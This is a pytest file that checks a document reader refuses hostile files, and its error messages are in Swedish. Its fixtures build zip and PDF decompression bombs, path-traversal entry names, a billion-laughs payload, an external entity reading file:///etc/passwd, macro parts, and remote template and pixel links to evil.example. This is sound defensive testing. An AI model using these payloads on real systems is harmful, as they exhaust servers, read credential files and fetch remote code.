"""What happens to files made to exhaust, to deceive or to reach out? Each is refused, with its reason, in time."""

import os
import random
import threading
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

import psutil
import pytest
from docx import Document
from pptx import Presentation
from pypdf import PdfWriter
from pypdf.generic import EncodedStreamObject, NameObject

from assistant.errors import DocumentRefused
from assistant.knowledge.readers import refusals
from assistant.knowledge.readers.parsed import Limits, Parsed
from assistant.knowledge.readers.reading import DEFAULT, read
from assistant.language import Said

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
END = b"</w:body>"


def a_docx() -> bytes:
    document, out = Document(), BytesIO()
    document.add_heading("4. Svarstider", 1)
    document.add_paragraph("Första svar inom 30 minuter.")
    document.save(out)
    return out.getvalue()


DOCX = a_docx()


def repacked(change: Callable[[str, bytes], bytes] = lambda name, data: data, **extra: bytes) -> bytes:
    """The document with its parts changed and parts added; `__` in a name stands for a slash."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(DOCX)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, data in extra.items():
            new.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def changed(part: str, old: bytes, new: bytes) -> bytes:
    return repacked(lambda name, data: data.replace(old, new) if name == part else data)


def related(kind: str, target: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    relation = f'<Relationship Id="rId77" Type="{RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
    return changed(part, b"</Relationships>", relation.encode() + b"</Relationships>")


def laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
    doctype = f'<!DOCTYPE lolz [<!ENTITY l0 "lol">{entities}]>'.encode()

    def change(name: str, data: bytes) -> bytes:
        if name != "word/document.xml":
            return data
        head, tail = data.split(b"?>", 1)
        return head + b"?>" + doctype + tail.replace(b"30 minuter", b"&l9;")

    return repacked(change)


def in_utf16(name: str, data: bytes) -> bytes:
    return data.decode().replace("UTF-8", "UTF-16").encode("utf-16") if name == "word/document.xml" else data


def encrypted_entries() -> bytes:
    """Every entry flagged as encrypted, as a zip program with a password does."""
    content = bytearray(DOCX)
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + flags] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def twice() -> bytes:
    return repacked(**{"word__DOCUMENT.xml": b"<a/>"})


def outcome(content: bytes, name: str, limits: Limits = DEFAULT) -> Parsed | Said:
    """What reading gives: blocks, or the words of the refusal."""
    try:
        return read(content, name, limits=limits)
    except DocumentRefused as refused:
        return refused.said


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "1 MB that unpacks to 240 MB": (lambda: changed("word/document.xml", END, b"A" * (240 << 20) + END), "MB uppackad"),
    "compressed beyond reason": (
        lambda: changed("word/document.xml", END, b"A" * (30 << 20) + END),
        "orimligt hårt packad",
    ),
    "too many parts": (lambda: repacked(**{f"word__x{at}.xml": b"<a/>" for at in range(1001)}), "för många delar"),
    "a path leading out": (lambda: repacked(**{"..__..__evil.xml": b"<a/>"}), "sökvägar utåt"),
    "an absolute path": (lambda: repacked(**{"__etc__evil.xml": b"<a/>"}), "sökvägar utåt"),
    "a drive": (lambda: repacked(**{"c:__evil.xml": b"<a/>"}), "sökvägar utåt"),
    "the same part twice": (twice, "samma del två gånger"),
    "encrypted entries": (encrypted_entries, "skyddad med lösenord"),
    "billion laughs": (laughs, "DOCTYPE"),
    "an outside entity": (
        lambda: changed(
            "word/styles.xml", b"<w:styles", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:styles'
        ),
        "DOCTYPE",
    ),
    "a part in UTF-16": (lambda: repacked(in_utf16), "UTF-16"),
    "a part in another encoding": (lambda: changed("word/styles.xml", b"UTF-8", b"ISO-8859-1"), "ISO-8859-1"),
    "macros": (lambda: repacked(**{"word__vbaProject.bin": b"x"}), "innehåller makron"),
    "a macro document without macros": (
        lambda: changed(
            "[Content_Types].xml",
            b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"vnd.ms-word.document.macroEnabled.main+xml",
        ),
        "innehåller makron",
    ),
    "a template": (
        lambda: changed("[Content_Types].xml", b"document.main+xml", b"template.main+xml"),
        "Filen är en mall",
    ),
    "an attached template": (lambda: related("attachedTemplate", "http://evil.example/t.dotm"), "kopplad dokumentmall"),
    "a linked picture": (lambda: related("image", "http://evil.example/pixel.png"), "länkad bild"),
    "an outside frame": (lambda: related("frame", "http://evil.example/"), "extern del"),
    "an embedded object": (lambda: repacked(**{"word__embeddings__oleObject1.bin": b"x"}), "inbäddade objekt"),
    "a control": (lambda: repacked(**{"word__activeX__activeX1.xml": b"<a/>"}), "inbäddade objekt"),
}


@pytest.mark.parametrize(("make", "reason"), HOSTILE.values(), ids=list(HOSTILE))
def test_a_hostile_package_is_refused_with_its_reason_before_it_is_read(make: Callable[[], bytes], reason: str):
    with pytest.raises(DocumentRefused) as refused:
        read(make(), "policy.docx", limits=Limits(cpu_seconds=3))
    assert reason in refused.value.text("sv")
    assert refused.value.said not in (refusals.TOO_SLOW, refusals.TOO_HEAVY, refusals.DAMAGED)


def test_links_to_web_pages_and_printer_settings_are_harmless():
    for content in (
        related("hyperlink", "https://ljungsjo.example/"),
        repacked(**{"word__printerSettings__printerSettings1.bin": b"<?xml?><!DOCTYPE plist>"}),
    ):
        assert read(content, "a.docx").blocks[-1].text == "Första svar inom 30 minuter."
    out = BytesIO()
    show = Presentation()
    show.slides.add_slide(show.slide_layouts[5]).shapes.title.text = "Tider"
    show.save(out)
    assert read(out.getvalue(), "a.pptx").blocks[0].text == "Tider"


def an_archive(**parts: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, data in parts.items():
            package.writestr(name.replace("__", "/"), data)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (an_archive(**{"a.txt": b"x"}), refusals.ARCHIVE),
        (an_archive(), refusals.ARCHIVE),
        (an_archive(mimetype=b"application/vnd.oasis.opendocument.text"), refusals.OPEN_DOCUMENT),
        (an_archive(**{"[Content_Types].xml": b"<a/>", "word__document.xml": b"<a/>"}), refusals.DAMAGED),
        (an_archive(**{"[Content_Types].xml": b"<a/>", "xl__workbook.bin": b"x"}), refusals.OTHER_OFFICE),
        (b"PK\x03\x04" + bytes(100), refusals.DAMAGED),
    ],
)
def test_other_archives_are_told_apart(content: bytes, reason: Said):
    with pytest.raises(DocumentRefused) as refused:
        read(content, "a.docx")
    assert refused.value.said == reason


def test_a_document_that_eats_memory_is_stopped_at_the_limit():
    """24 MB of small paragraphs pass the size check and need far more than that as a tree."""
    limits = Limits(memory=256 << 20)
    paragraph = b"<w:p><w:r><w:t>AAAA</w:t></w:r></w:p>"
    filling = paragraph * ((24 << 20) // len(paragraph))
    content = repacked(
        lambda name, data: data.replace(END, filling + END) if name == "word/document.xml" else data,
        **{"word__media__noise.bin": os.urandom(1 << 20)},
    )
    peak, done = [0], threading.Event()

    def watch() -> None:
        while not done.wait(0.01):
            for child in psutil.Process().children():
                try:
                    peak.append(child.memory_info().rss)
                except psutil.NoSuchProcess:
                    continue

    watcher = threading.Thread(target=watch)
    watcher.start()
    with pytest.raises(DocumentRefused) as refused:
        read(content, "a.docx", limits=limits)
    done.set()
    watcher.join()
    assert refused.value.said == refusals.TOO_HEAVY
    assert 0 < max(peak) < limits.memory
    assert psutil.Process().children(recursive=True) == []


def test_a_pdf_stream_that_unpacks_to_256_mb_is_stopped():
    writer, out = PdfWriter(), BytesIO()
    page, packer, stream = writer.add_blank_page(595, 842), zlib.compressobj(9), EncodedStreamObject()
    block = b" " * (1 << 24)
    stream._data = b"".join(packer.compress(block) for _ in range(16)) + packer.flush()
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    page[NameObject("/Contents")] = writer._add_object(stream)
    writer.write(out)
    with pytest.raises(DocumentRefused) as refused:
        read(out.getvalue(), "a.pdf")
    assert refused.value.said == refusals.TOO_HEAVY


def test_a_page_nested_beyond_reason_is_refused_rather_than_read_by_half():
    page = "<html><body><p>Synligt</p>" + "<div>" * 5000 + "djupt" + "</div>" * 5000 + "<p>Efter</p>"
    with pytest.raises(DocumentRefused) as refused:
        read(page.encode(), "a.html")
    assert refused.value.said == refusals.TOO_DEEP


@pytest.mark.parametrize(
    "text",
    [
        "> " * 3000 + "djupt",
        "- " * 3000 + "djupt",
        "*" * 20_000,
        "[" * 20_000,
        "<table>" + "<tr><td colspan=99999 rowspan=99999>a</td>" * 300,
        "<style>" + "@media x {" * 5000 + "</style><p>a</p>",
        "|a" * 2000 + "|\n" + "|-" * 2000 + "|\n" + "|b" * 2000 + "|",
    ],
    ids=["quotes", "lists", "stars", "brackets", "spans", "styles", "columns"],
)
def test_contorted_text_ends_in_blocks_or_a_refusal(text: str):
    assert outcome(text.encode(), "a.md", Limits(cpu_seconds=5)) != refusals.TOO_SLOW


def test_damaged_files_end_in_blocks_or_a_refusal():
    """Bytes overwritten at random places, the same ones every time."""
    chance = random.Random(2)
    for name, whole in (("a.docx", DOCX), ("a.txt", b"Svar inom 30 minuter.\n" * 40)):
        for _ in range(12):
            content = bytearray(whole)
            for _ in range(chance.randint(1, 40)):
                content[chance.randrange(len(content))] = chance.randrange(256)
            assert outcome(bytes(content), name) not in (refusals.TOO_SLOW, refusals.STARTS_NOT)
